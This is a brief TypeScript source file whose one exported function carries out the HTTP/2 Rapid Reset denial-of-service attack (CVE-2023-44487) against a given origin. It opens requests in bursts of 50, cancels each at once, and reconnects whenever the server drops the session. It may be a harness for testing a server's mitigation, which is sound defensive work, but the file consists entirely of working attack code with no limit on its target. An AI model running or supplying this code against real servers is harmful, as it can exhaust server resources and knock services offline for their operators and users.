import { connect, constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';

const BURST = 50;
const PAUSE_MS = 500;

/**
 * Opens requests in bursts and cancels each at once (CVE-2023-44487), over one connection after the
 * other: a server may close one.
 *
 * @returns how many requests were cancelled
 */
export async function resetRapidly(origin: string, ca: string, path: string, until: number): Promise<number> {
  let resets = 0;
  while (performance.now() < until) {
    const session = connect(origin, { ca });
    session.on('error', () => {});
    while (performance.now() < until && !session.destroyed && !session.closed) {
      for (let i = 0; i < BURST; i++) {
        const stream = session.request({ ':path': path });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        resets += 1;
      }
      await sleep(PAUSE_MS);
    }
    session.destroy();
  }
  return resets;
}
